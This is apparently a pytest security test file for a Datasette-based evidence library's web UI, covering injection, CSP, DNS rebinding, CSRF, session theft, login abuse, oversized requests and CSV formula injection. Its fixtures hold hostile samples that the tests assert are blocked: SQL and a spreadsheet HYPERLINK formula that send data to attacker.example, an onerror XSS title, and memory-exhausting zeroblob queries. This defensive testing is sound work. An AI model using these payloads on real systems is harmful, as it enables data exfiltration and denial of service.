"""The web UI tried as an attacker would, through Datasette's own test client: markup in
the data, other sites driving the browser, look-alike hosts, stolen or stale sessions,
login abuse, huge requests and huge answers.

Each attack named in `proof.WEB_ATTACKS` is a test below, `test_attack_<name>`; the two
that need a browser to show what a person would suffer are in tests/test_browser.py.
"""

import asyncio
import csv
import html.parser
import io
import json
import re
import subprocess
import sys
import urllib.parse

import httpx
import pytest
from proof import FOREIGN, WEB_ATTACKS

from evidence.accounts import Accounts
from evidence.web import make_datasette

PASSWORD = "correct horse battery"
HOSTILE_SQL = (
    "select '![x](http://attacker.example/?d=' || group_concat(title) || ')' as x_markdown,"
    " '<img src=http://attacker.example/b>' as y_html from evidence"
)
FORMULAS = ['=HYPERLINK("http://attacker.example/?d="&A1,"Open")', "+1+2", "-3+4", "@SUM(A1)"]


class Browser:
    """One browser at one network address: it keeps its cookies as a browser does, and
    sends whatever headers the page that drives it would make it send."""

    def __init__(self, datasette, address: str = "127.0.0.1") -> None:
        self.app = datasette.app()
        self.address = address
        self.cookies = httpx.Cookies()

    def request(self, method: str, path: str, **options) -> httpx.Response:
        async def send():
            transport = httpx.ASGITransport(app=self.app, client=(self.address, 50123))
            async with httpx.AsyncClient(
                transport=transport, base_url="http://localhost", cookies=self.cookies
            ) as client:
                response = await client.request(method, path, **options)
                self.cookies = client.cookies
                return response

        return asyncio.run(send())

    def get(self, path: str, **options) -> httpx.Response:
        return self.request("GET", path, **options)

    def post(self, path: str, **options) -> httpx.Response:
        return self.request("POST", path, **options)

    def form_token(self, path: str = "/-/login") -> str:
        page = self.get(path)
        return re.search(r'name="csrftoken" value="([^"]+)"', page.text).group(1)

    def log_in(self, name: str, password: str = PASSWORD) -> httpx.Response:
        form = {"csrftoken": self.form_token(), "name": name, "password": password, "next": "/"}
        return self.post("/-/login", data=form)

    def log_out(self) -> httpx.Response:
        return self.post("/-/logout", data={"csrftoken": self.form_token("/")})


@pytest.fixture(scope="module")
def library(tmp_path_factory):
    """A small library with accounts: an item whose title is HTML, four whose titles are
    spreadsheet formulas, a manager and an analyst."""
    from typer.testing import CliRunner

    from evidence.cli import full_app

    path = tmp_path_factory.mktemp("seal") / "evidence.db"
    runner = CliRunner()
    titles = ["<img src=x onerror=alert(1)> Neglect audit", *FORMULAS]
    for title in titles:
        result = runner.invoke(
            full_app(),
            ["add", "audit", "--title", title, "--date", "2017-01-10", "--area", "1",
             "--db", str(path), "--create", "--by", "tester"],
        )  # fmt: skip
        assert result.exit_code == 0, result.output
    accounts = Accounts(path)
    for name, role in (("mia.manager", "manager"), ("ann.analyst", "analyst")):
        accounts.add(name, role, PASSWORD, by="tester")
    return path


@pytest.fixture(scope="module")
def served(library):
    return make_datasette(library)


@pytest.fixture
def fresh(tmp_path, cli):
    """A library of its own for a test that changes accounts: one item, two accounts."""
    path = tmp_path / "own" / "evidence.db"
    cli.add("audit", "Audit", "2017-01-10", ["1"], "--db", path, "--create")
    for name, role in (("mia.manager", "manager"), ("ann.analyst", "analyst")):
        Accounts(path).add(name, role, PASSWORD, by="tester")
    return path


def logged_in(datasette, name: str, address: str = "127.0.0.1") -> Browser:
    browser = Browser(datasette, address)
    assert browser.log_in(name).status_code == 302
    return browser


def test_every_web_attack_the_readme_names_has_its_test():
    import test_browser

    here = {name for name in globals() if name.startswith("test_attack_")}
    there = {name for name in vars(test_browser) if name.startswith("test_attack_")}
    expected = {"test_attack_" + key.replace("-", "_") for key in WEB_ATTACKS}
    assert here | there == expected
    assert not here & there


# 1. Markup in the data


def test_attack_markdown_column(served):
    """SQL that names a column `*_markdown` or `*_html` is shown as text, on every page
    that shows an answer: no image, no tag."""
    analyst, manager = logged_in(served, "ann.analyst"), logged_in(served, "mia.manager")
    query = urllib.parse.urlencode({"sql": HOSTILE_SQL})
    stats_query = urllib.parse.urlencode(
        {"sql": "select '![x](http://attacker.example/?d=' || first_finding || ')' as"
                " x_markdown from readiness"}
    )  # fmt: skip
    for browser, path in ((analyst, f"/evidence?{query}"), (manager, f"/stats?{stats_query}")):
        page = browser.get(path)
        assert page.status_code == 200, page.text[:300]
        assert "attacker.example" in page.text
        assert not re.search(r"<img[^>]*attacker", page.text), path
        assert "![x](http://attacker.example/?d=" in page.text
    # A stored title that is HTML is shown escaped wherever it appears.
    for path in ("/evidence/evidence", "/evidence/evidence/1", "/"):
        page = manager.get(path)
        assert "<img src=x onerror" not in page.text, path
    assert (
        "&lt;img src=x onerror=alert(1)&gt; Neglect audit"
        in manager.get("/evidence/evidence/1").text
    )


def test_no_plugin_renders_html_from_data(served):
    from datasette.plugins import pm

    assert not [
        name for name, _ in pm.list_name_plugin() if "markdown" in name or "leaflet" in name
    ]


# 2. The Content-Security-Policy, and no script in the page itself


def csp(response) -> dict[str, list[str]]:
    policy = response.headers["content-security-policy"]
    directives = [part.split() for part in policy.split(";") if part.strip()]
    return {words[0]: words[1:] for words in directives}


PAGES = [
    "/", "/evidence", "/evidence/evidence", "/evidence/evidence/1", "/evidence/evidence?_where=id%3D1",
    "/evidence?sql=select+1", "/evidence/everything_about?about=audit", "/stats",
    "/-/dashboards", "/-/dashboards/readiness", "/-/dashboards/readiness/figures",
    "/-/dashboards/readiness/ratings", "/-/help", "/-/logout", "/-/databases", "/-/allow-debug",
    "/-/messages", "/evidence/no_such_table",
]  # fmt: skip


def test_every_answer_carries_a_content_security_policy(served):
    analyst = logged_in(served, "ann.analyst")
    anonymous = Browser(served)
    answers = [analyst.get(path) for path in PAGES]
    answers += [
        analyst.get("/evidence/evidence.json"),
        analyst.get("/assets/library.css"),
        anonymous.get("/-/login"),
        anonymous.get("/robots.txt"),
        anonymous.get("/evidence/evidence"),
        anonymous.get("/", headers={"host": "attacker.example"}),
    ]
    for answer in answers:
        policy = csp(answer)
        assert policy["default-src"] == ["'self'"], answer.url
        assert policy["frame-ancestors"] == ["'none'"]
        assert policy["form-action"] == ["'self'"]
        assert policy["script-src"] == ["'self'"]  # no inline script, no eval
        assert policy["connect-src"] == ["'self'"]
        assert set(policy["img-src"]) <= {"'self'", "data:"}
        assert policy["object-src"] == ["'none'"] and policy["base-uri"] == ["'none'"]
        assert answer.headers["x-frame-options"] == "DENY"


class Scripts(html.parser.HTMLParser):
    """What in a page would run as script: inline scripts, handlers, javascript: links."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.in_script = False

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        if tag == "script":
            kind = attributes.get("type") or "text/javascript"
            if "src" not in attributes and kind != "application/json":
                self.found.append("an inline <script>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"a {name} handler on <{tag}>")
            if name in ("href", "src", "action", "formaction") and (value or "").strip(
            ).lower().startswith("javascript:"):  # fmt: skip
                self.found.append(f"a javascript: {name} on <{tag}>")


def test_no_page_holds_script_of_its_own(served):
    """Every script is a file served by the web UI itself, which the policy allows; the
    policy would refuse anything written into the page."""
    analyst = logged_in(served, "ann.analyst")
    for path in PAGES + ["/-/login"]:
        page = analyst.get(path) if path != "/-/login" else Browser(served).get(path)
        scripts = Scripts()
        scripts.feed(page.text)
        assert scripts.found == [], (path, scripts.found)


# 3. Other sites, and other names for this one


def test_attack_dns_rebinding(served):
    """A page elsewhere whose name was made to point at this computer reaches the server
    under its own name: refused before anything is read."""
    analyst = logged_in(served, "ann.analyst")
    for host in ("attacker.example", "attacker.example:8001", "127.0.0.1.attacker.example",
                 "localhost.", "localhost:8001@attacker.example", "xn--ocalhost-5r8c", ""):  # fmt: skip
        for path in ("/evidence.json?sql=select+title+from+evidence", "/", "/-/login"):
            answer = analyst.get(path, headers={"host": host})
            assert answer.status_code == 400, (host, path)
            assert "Audit" not in answer.text and "Neglect" not in answer.text
    for host in ("localhost", "127.0.0.1:8001", "[::1]:8001", "LOCALHOST:8001"):
        assert analyst.get("/evidence/evidence", headers={"host": host}).status_code == 200, host


def test_names_given_when_serving_are_answered(library):
    datasette = make_datasette(
        library, allowed_hosts=["evidence.fenmoor.gov.uk", "10.0.0.5", "2001:db8:0:0::1"]
    )
    analyst = logged_in(datasette, "ann.analyst")
    for host in ("evidence.fenmoor.gov.uk", "Evidence.Fenmoor.gov.uk:443", "10.0.0.5:8001",
                 "localhost", "[2001:db8::1]:8001", "[2001:DB8:0::1]"):  # fmt: skip
        assert analyst.get("/evidence/evidence", headers={"host": host}).status_code == 200
    assert analyst.get("/", headers={"host": "fenmoor.gov.uk"}).status_code == 400


def foreign(site: str = "cross-site", mode: str = "no-cors", dest: str = "image") -> dict:
    return {"sec-fetch-site": site, "sec-fetch-mode": mode, "sec-fetch-dest": dest}


@pytest.mark.parametrize(("path", "status"), FOREIGN)
def test_attack_cross_site_request(served, path, status):
    """A page on another site (or on another port of this computer, which browsers count
    as the same site) makes the browser of a logged-in analyst ask for the library: a
    link followed opens a page, and nothing else is answered."""
    analyst = logged_in(served, "ann.analyst")
    for site in ("cross-site", "same-site"):
        followed = analyst.get(path, headers=foreign(site, "navigate", "document"))
        assert followed.status_code == status, (site, path)
        for mode, dest in (("no-cors", "image"), ("cors", "empty"), ("no-cors", "script"),
                           ("navigate", "iframe")):  # fmt: skip
            refused = analyst.get(path, headers=foreign(site, mode, dest))
            assert refused.status_code == 403, (site, mode, dest, path)
            assert "Audit" not in refused.text and "another site" in refused.text
    # The library's own pages, and a person typing the address, are answered.
    for site in ("same-origin", "none"):
        assert analyst.get(path, headers=foreign(site, "cors", "empty")).status_code == 200


def test_a_form_sent_from_another_site_is_refused(fresh):
    datasette = make_datasette(fresh)
    browser = Browser(datasette)
    token = browser.form_token()
    form = {"csrftoken": token, "name": "mia.manager", "password": PASSWORD, "next": "/"}
    for headers in ({"origin": "http://attacker.example"}, {"origin": "null"},
                    {"origin": "http://127.0.0.1:9999"},
                    {"sec-fetch-site": "same-site", "sec-fetch-mode": "navigate"}):  # fmt: skip
        refused = browser.post("/-/login", data=form, headers=headers)
        assert refused.status_code == 403, headers
        assert "ds_actor" not in refused.headers.get("set-cookie", "")
    accepted = browser.post("/-/login", data=form, headers={"origin": "http://localhost"})
    assert accepted.status_code == 302


def test_the_session_cookie_stays_on_this_site(fresh):
    answer = Browser(make_datasette(fresh)).log_in("mia.manager")
    cookie = [value for key, value in answer.headers.multi_items() if key == "set-cookie"
              and value.startswith("ds_actor=")][0]  # fmt: skip
    attributes = {part.strip().lower() for part in cookie.split(";")}
    assert "samesite=strict" in attributes and "httponly" in attributes


# 4. Sessions and logging in


def test_attack_session_after_logout(fresh):
    """A session cookie copied before its owner logged out is no one afterwards."""
    datasette = make_datasette(fresh)
    browser = logged_in(datasette, "ann.analyst")
    copied = browser.cookies["ds_actor"]
    assert browser.get("/evidence/evidence").status_code == 200
    before = {"cookie": f"ds_actor={copied}"}
    assert Browser(datasette).get("/evidence/evidence", headers=before).status_code == 200
    assert browser.log_out().status_code == 302
    assert browser.get("/evidence/evidence").status_code == 302
    thief = {"cookie": f"ds_actor={copied}"}
    assert Browser(datasette).get("/evidence/evidence", headers=thief).status_code == 302
    sql = "/evidence.json?sql=select+title+from+evidence"
    assert Browser(datasette).get(sql, headers=thief).status_code == 403


def test_attack_session_revived(fresh, cli):
    """Disabling an account ends its sessions for good: enabling it again does not bring
    them back, and nor does a new password."""
    datasette = make_datasette(fresh)
    browser = logged_in(datasette, "mia.manager")
    copied = browser.cookies["ds_actor"]
    before = {"cookie": f"ds_actor={copied}"}
    assert Browser(datasette).get("/evidence/evidence", headers=before).status_code == 200
    cli("user", "disable", "mia.manager", "--db", fresh)
    assert browser.get("/evidence/evidence").status_code == 302
    cli("user", "enable", "mia.manager", "--db", fresh)
    thief = {"cookie": f"ds_actor={copied}"}
    assert Browser(datasette).get("/evidence/evidence", headers=thief).status_code == 302
    assert logged_in(datasette, "mia.manager").get("/evidence/evidence").status_code == 200


def test_attack_login_csrf(fresh):
    """Another site logs the victim in as the attacker, so what the victim then looks at
    or types is in the attacker's session: a login form without the form's own cookie
    and token is refused, whatever else it carries."""
    datasette = make_datasette(fresh)
    form = {"name": "mia.manager", "password": PASSWORD, "next": "/"}
    browser = Browser(datasette)
    token = Browser(datasette).form_token()  # a real token, from another browser
    for sent in (form, {**form, "csrftoken": ""}, {**form, "csrftoken": token}):
        refused = browser.post("/-/login", data=sent)
        assert refused.status_code == 403, sent
        assert "ds_actor" not in refused.headers.get("set-cookie", "")
    assert browser.get("/evidence/evidence").status_code == 302


def test_attack_lockout_of_another(fresh, monkeypatch):
    """Anyone who can reach the login page used to be able to lock any account with five
    wrong passwords: now they lock out only themselves, and the owner's own browser (one
    that has logged in to the account before) is never locked out by guesses elsewhere."""
    import evidence.accounts as accounts

    monkeypatch.setattr(accounts, "MAX_FAILURES_PER_NAME", 10, raising=False)
    datasette = make_datasette(fresh)
    owner = Browser(datasette, "192.0.2.10")
    assert owner.log_in("mia.manager").status_code == 302
    attacker = Browser(datasette, "2001:db8:0:1::66")
    answers = [attacker.log_in("mia.manager", "wrong password!") for _ in range(6)]
    assert [answer.status_code for answer in answers] == [401] * 6
    assert "Too many failed attempts for this name" in answers[-1].text
    assert attacker.log_in("mia.manager").status_code == 401  # even with the password
    # Another address of the same IPv6 network is the same computer.
    neighbour = Browser(datasette, "2001:db8:0:1::67").log_in("mia.manager")
    assert neighbour.status_code == 401 and "Too many" in neighbour.text
    assert Browser(datasette, "192.0.2.11").log_in("mia.manager").status_code == 302
    # Guesses from a second address pass the limit for the name from anywhere...
    second = Browser(datasette, "198.51.100.66")
    assert all(second.log_in("mia.manager", "wrong again!!").status_code == 401 for _ in range(5))
    stranger = Browser(datasette, "192.0.2.12").log_in("mia.manager")
    assert (
        stranger.status_code == 401 and "Too many failed attempts for this name" in stranger.text
    )
    # ...but not for the browser the owner logged in from before, wherever it is now.
    owner.address = "203.0.113.5"
    assert owner.log_in("mia.manager").status_code == 302


def test_attack_password_spraying(fresh, monkeypatch):
    """One password tried over many names from one address: refused once the address has
    failed 20 times, whatever name it tries next."""
    import evidence.accounts as accounts

    datasette = make_datasette(fresh)
    sprayer = Browser(datasette, "192.0.2.77")
    names = [f"user{number}" for number in range(getattr(accounts, "MAX_FAILURES_PER_CLIENT", 20))]
    assert all(sprayer.log_in(name, "Summer2026!!!").status_code == 401 for name in names)
    refused = sprayer.log_in("mia.manager")
    assert refused.status_code == 401 and "Too many failed attempts" in refused.text
    assert Browser(datasette, "192.0.2.78").log_in("mia.manager").status_code == 302


def test_attack_distributed_guessing(fresh, monkeypatch):
    """Guesses from many addresses: past a ceiling for the whole library, every login from
    a new browser waits out the quarter of an hour."""
    import evidence.accounts as accounts

    monkeypatch.setattr(accounts, "MAX_FAILURES", 12, raising=False)
    datasette = make_datasette(fresh)
    owner = Browser(datasette, "192.0.2.10")
    assert owner.log_in("ann.analyst").status_code == 302
    for number in range(12):
        guess = Browser(datasette, f"198.51.100.{number}").log_in(f"name{number}", "wrong one!!!")
        assert guess.status_code == 401 and "Too many" not in guess.text
    refused = Browser(datasette, "198.51.100.200").log_in("mia.manager")
    assert refused.status_code == 401
    assert "Too many failed logins" in refused.text
    assert owner.log_in("ann.analyst").status_code == 302


def test_attack_huge_login_form(fresh):
    """A 300 MB login form is refused once 64 KB have arrived, and never held whole."""
    datasette = make_datasette(fresh)
    browser = Browser(datasette)
    browser.form_token()
    sent = []

    async def body():
        chunk = b"name=" + b"a" * (1024 * 1024)
        for _ in range(300):
            sent.append(len(chunk))
            yield chunk

    refused = browser.post(
        "/-/login",
        content=body(),
        headers={"content-type": "application/x-www-form-urlencoded"},
    )
    assert refused.status_code == 413
    assert sum(sent) <= 2 * 1024 * 1024, f"{sum(sent):,} bytes were read"
    declared = browser.post(
        "/-/login",
        content=b"name=x",
        headers={"content-type": "application/x-www-form-urlencoded",
                 "content-length": str(300 * 1024 * 1024)},
    )  # fmt: skip
    assert declared.status_code == 413
    assert "64 KB" in refused.text


# 5. Bounds, and what the server says about itself


MEASURE = """
import asyncio, json, resource, sys
from evidence.web import make_datasette
datasette = make_datasette(sys.argv[1])

def peak():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024

async def main():
    for _ in range(3):
        for path in ("/evidence", "/stats", "/evidence.json", "/stats.json"):
            await datasette.client.get(path, params={"sql": "select 1 as a, 'b' as b"})
    before = peak()
    for path, params in json.loads(sys.argv[2]):
        answer = await datasette.client.get(path, params=params)
        print(json.dumps([answer.status_code, peak() - before, answer.text[-2000:]]))

asyncio.run(main())
"""


def numbers(rows: int, columns: int) -> str:
    values = ", ".join(f"{column}.5" for column in range(columns))
    return (
        f"with recursive n(i) as (select 1 union all select i + 1 from n where i < {rows}),"
        f" t as (select {values}) select * from n, t"
    )


# Each is asked for by the person at the computer (an analyst), as a page or as JSON; the
# statistics database takes a manager's SQL too. What the refusal says; and, last, a
# large answer let through (31 columns is the most the budget lets through 1,000 rows of).
HUGE_ANSWERS = [
    ("/evidence.json", {"sql": "select hex(zeroblob(50000000)) as x"}, "larger than 1 MB"),
    ("/evidence.json", {"sql": "with recursive n(i) as (select 1 union all select i + 1"
     " from n where i < 1000) select i, hex(zeroblob(400000)) as x from n"}, "larger than 4 MB"),
    ("/stats", {"sql": numbers(1000, 40).replace("select * from n, t",
     "select * from n" + "".join(f", t t{k}" for k in range(49)))}, "too many columns"),
    ("/stats", {"sql": numbers(1000, 60)}, "larger than 4 MB"),
    ("/stats.json", {"sql": "with recursive n(i) as (select 1 union all select i + 1 from n"
     " where i < 3000) select length(json_group_array(hex(randomblob(400000)))) from n"},
     "json_group_array() cannot be used"),
    ("/evidence/evidence.json", {"_where": "length(hex(zeroblob(50000000))) > 0"},
     "larger than 1 MB"),
]  # fmt: skip
LARGE = ("/stats", {"sql": numbers(1000, 30)})


def test_attack_huge_answer(tmp_path, cli):
    """Queries that would make a huge answer, or one huge to show, are stopped, and the
    server process grows by no more than a few MB: by 12 MB at most over all of them, and
    to 16 MB with a large answer let through, a page of 30,000 figures."""
    path = tmp_path / "bounds" / "evidence.db"
    cli.add("audit", "Audit", "2017-01-10", ["1"], "--db", path, "--create")
    asked = [[path, params] for path, params, _ in HUGE_ANSWERS] + [list(LARGE)]
    measured = subprocess.run(
        [sys.executable, "-c", MEASURE, str(path), json.dumps(asked)],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert measured.returncode == 0, measured.stderr[-3000:]
    answers = [json.loads(line) for line in measured.stdout.splitlines()]
    for (status, grown, said), (address, params, why) in zip(answers, HUGE_ANSWERS):
        assert status == 400, (address, params, status)
        assert why in said, (why, said)
    refused_growth = answers[len(HUGE_ANSWERS) - 1][1]
    assert refused_growth <= 12, f"the server grew by {refused_growth} MB"
    status, grown, _ = answers[-1]
    assert status == 200 and grown <= 16, (status, f"the server grew by {grown} MB")


def test_json_cells_of_a_query_of_ones_own_are_not_parsed(served):
    analyst = logged_in(served, "ann.analyst")
    refused = analyst.get("/evidence.json", params={"sql": "select '[]' as j", "_json": "j"})
    assert refused.status_code == 400 and "json_extract()" in refused.text
    # Datasette's own tables still may.
    assert analyst.get("/evidence/changes.json?_json=new").status_code == 200


def test_an_analysts_answer_keeps_its_row_limit(served):
    analyst = logged_in(served, "ann.analyst")
    sql = "with recursive n(i) as (select 1 union all select i + 1 from n where i < 5000)" \
          " select i from n"  # fmt: skip
    answer = analyst.get("/evidence.json", params={"sql": sql, "_shape": "objects"}).json()
    assert len(answer["rows"]) == 1000 and answer["truncated"] is True


INTROSPECTION = ["/-/databases.json", "/-/versions.json", "/-/plugins.json", "/-/threads.json",
                 "/-/actor.json", "/-/settings.json", "/-/databases", "/-/allow-debug",
                 "/-/messages", "/-/patterns"]  # fmt: skip


def test_what_the_server_says_of_itself_is_for_analysts(served):
    anonymous, manager = Browser(served), logged_in(served, "mia.manager")
    analyst = logged_in(served, "ann.analyst")
    for path in INTROSPECTION:
        assert analyst.get(path).status_code == 200, path
        assert manager.get(path).status_code == 403, path
        answer = anonymous.get(path)
        if path.endswith(".json"):
            assert answer.status_code == 403, path
        else:
            assert answer.status_code == 302, path
            assert answer.headers["location"].startswith("/-/login?next="), path
    assert str(served.evidence_library.library) not in manager.get("/-/databases.json").text


# 6. Spreadsheet formulas in CSV downloads


def rows_of(answer) -> list[list[str]]:
    assert answer.status_code == 200, answer.text[:300]
    return list(csv.reader(io.StringIO(answer.text)))


def test_attack_csv_formulas_web(served):
    """A title that is a formula is downloaded as text, exactly as `evidence export`
    writes it, from a table, a view, a canned query or an analyst's SQL."""
    analyst = logged_in(served, "ann.analyst")
    downloads = [
        "/evidence/evidence.csv?_dl=1&_col=title",
        "/evidence/evidence.csv?_stream=on&_col=title",
        "/evidence/evidence_by_area.csv?_col=title",
        "/evidence/everything_about.csv?about=%2B",
        "/evidence.csv?" + urllib.parse.urlencode({"sql": "select title from evidence"}),
    ]
    for path in downloads:
        cells = [cell for row in rows_of(analyst.get(path)) for cell in row]
        for formula in FORMULAS:
            assert formula not in cells, (path, formula)
        assert {"'" + formula for formula in FORMULAS} & set(cells), path
    heading = rows_of(analyst.get("/evidence.csv?sql=select+1+as+%22%3Dcmd()%22"))[0]
    assert heading == ["'=cmd()"]
    negative = rows_of(analyst.get("/evidence.csv?sql=select+-5+as+n,+-2.5+as+m"))[1]
    assert negative == ["-5", "-2.5"]  # numbers stay numbers


def test_the_access_tables_cover_every_introspection_page():
    from proof import ACCESS

    paths = {path for path, *_ in ACCESS}
    assert set(INTROSPECTION) <= paths


def test_json_answers_are_still_json(served):
    analyst = logged_in(served, "ann.analyst")
    answer = analyst.get("/evidence/evidence.json?_shape=array")
    assert answer.headers["content-type"].startswith("application/json")
    assert len(json.loads(answer.text)) == 5
